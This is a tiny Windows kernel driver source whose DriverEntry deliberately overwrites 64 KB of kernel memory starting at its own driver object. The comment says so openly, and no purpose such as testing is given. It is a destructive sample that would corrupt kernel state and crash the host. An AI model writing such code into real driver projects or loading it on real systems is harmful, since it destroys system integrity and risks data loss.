/* DriverEntry overwrites memory of the host: what lies around its driver object. */
#include <ntddk.h>

DRIVER_INITIALIZE DriverEntry;

NTSTATUS NTAPI DriverEntry(PDRIVER_OBJECT driver, PUNICODE_STRING path)
{
    UNREFERENCED_PARAMETER(path);
    volatile UCHAR *at = (volatile UCHAR *)driver;
    for (ULONG i = 0; i < 0x10000; i++)
        at[i] = 0xAA;
    return STATUS_SUCCESS;
}
